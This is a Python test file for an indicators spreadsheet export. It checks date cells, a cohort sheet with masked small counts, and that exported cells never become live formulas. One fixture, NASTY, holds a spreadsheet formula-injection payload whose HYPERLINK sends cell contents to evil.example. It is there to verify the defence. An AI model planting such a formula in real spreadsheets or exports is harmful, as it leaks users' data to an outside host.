"""The indicators XLSX (issue 19 item 3): dates stored as dates, a cohort sheet (per milestone and month: members
observed, events, the raw observed share, the Kaplan–Meier estimate) and a breakdown sheet (the dashboard's
detailed breakdowns), small counts masked as on the page, no live formula."""
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from agir.dates import add_months, today
from agir.extensions import db
from agir.indicators import CohortScope
from agir.indicators.cohort import compute_with_counts
from agir.indicators.cohort_table import MILESTONE_LABELS
from agir.indicators.layout import small_count
from tests import factories as f
from tests.indicators.helpers import accompaniment, participation, person, right

NASTY = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
MONTHS_AGO = (11, 10, 9, 8, 7, 6, 6, 5, 5, 4, 4, 3, 3, 2, 1, 1, 0)


@pytest.fixture
def year(world):
    """Seventeen members entered over the last twelve months (late months: 1 to 4 observed), of several
    nationalities, in two structures — one named like a formula."""
    nasty = f.make_structure(world.department, "programme_operator", ref="S-NASTY", name=NASTY)
    programme = f.make_programme(world.department, nasty, theme="health", ref="PR-NASTY", name="Santé", carif=None)
    day = today()
    for n, ago in enumerate(MONTHS_AGO):
        start = add_months(day, -ago) - timedelta(days=1 + n % 3)
        p = person(world, nationality="AFG" if n < 12 else ("SYR", "ERI")[n % 2])
        accompaniment(p, world.agir, start)
        if n % 4 != 3:
            right(p, "health_insurance", obtained=start + timedelta(days=12 * (n % 5)))
        if n < 3:
            participation(p, programme, start, start + timedelta(days=30), planned=10, attended=9)
    db.session.commit()
    return world


def workbook(client):
    assert f.login(client, "pilot@example.fr").status_code == 302
    day = today()
    response = client.get("/pilot/export.xlsx", query_string={"from": add_months(day, -12).isoformat(),
                                                               "to": day.isoformat()})
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.data))


def labelled(sheet) -> dict:
    """First column → the row's cells (the title block's lines)."""
    return {row[0].value: row for row in sheet.iter_rows() if row[0].value}


def test_dates_are_date_cells_with_a_date_format(client, year):
    book = workbook(client)
    assert book.sheetnames == ["Indicateurs", "Cohorte", "Répartitions"]
    day = today()
    start = add_months(day, -12)
    for title, names in (("Indicateurs", {"Du": start, "Au": day, "Situation des accompagnements au": day}),
                         ("Cohorte", {"Entrées en accompagnement du": start, "Au": day,
                                      "Membres observés au": day}),
                         ("Répartitions", {"Du": start, "Au": day})):
        lines = labelled(book[title])
        for name, expected in names.items():
            cell = lines[name][1]
            assert cell.is_date, (title, name, cell.value)
            assert cell.value.date() == expected and cell.number_format == "DD/MM/YYYY"


def test_cohort_sheet_has_the_figures_of_agir_cohort_masked(client, year):
    book = workbook(client)
    day = today()
    cohort, series = compute_with_counts(CohortScope(add_months(day, -12), day, year.department, as_of=day))
    sheet = book["Cohorte"]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    header = values.index(["Étape", "Mois depuis l'entrée", "Membres observés",
                           "Ont franchi l'étape ce mois-là (événements)", "Part des membres observés",
                           "Estimation de Kaplan–Meier", "Part de toute la cohorte"])
    body = values[header + 1:header + 1 + 6 * len(cohort["months"])]
    assert labelled(sheet)["Taille de la cohorte"][1].value == 17
    masked_seen = shown_seen = False
    for index, row in enumerate(body):
        key = list(MILESTONE_LABELS)[index // len(cohort["months"])]
        m = index % len(cohort["months"])
        observed, events = cohort["observed"][m], series[key][m]["events"]
        assert row[:2] == [str(MILESTONE_LABELS[key]), m]
        assert row[2] == (small_count(observed) if 0 < observed < 5 else observed)
        assert row[3] == (small_count(events) if 0 < events < 5 else events)
        if 0 < observed < 5:
            masked_seen = True
            assert row[4:6] == ["s", "s"]
        elif observed:
            shown_seen = True
            assert row[4:6] == [cohort["observed_shares"][key][m], cohort["km"][key][m]]
        else:
            assert row[4:6] == ["non calculable", "non calculable"]
        assert row[6] == cohort["milestones"][key][m]
    assert masked_seen and shown_seen
    # Shares are percentages, not text.
    share = next(row for row in sheet.iter_rows() if isinstance(row[5].value, float))[5]
    assert share.number_format == "0.00%"


def test_breakdown_sheet_masks_small_counts_and_neutralises_formulas(client, year):
    sheet = workbook(client)["Répartitions"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    nationalities = {row[1]: row[2] for row in rows if row[0] == "Nationalité"}
    assert nationalities == {"Afghanistan": 12, "Syrie": "< 5", "Érythrée": "< 5"}
    structures = {row[1]: row[2:4] for row in rows if row[0] in ("Opérateur AGIR", "Opérateur de programme")}
    assert structures["Opérateur AGIR Bordeaux"] == [17, 0]
    assert structures[NASTY] == [0, "< 5"]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == NASTY)
    assert cell.data_type == "s" and cell.quotePrefix  # text shown as typed, never a formula
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_the_csv_keeps_french_text_dates(client, year):
    assert f.login(client, "pilot@example.fr").status_code == 302
    body = client.get("/pilot/export.csv", query_string={"from": "2026-01-01", "to": "2026-12-31"}).data
    assert ";Du;01/01/2026;" in body.decode("utf-8-sig")  # text: a French spreadsheet reads it as a date itself
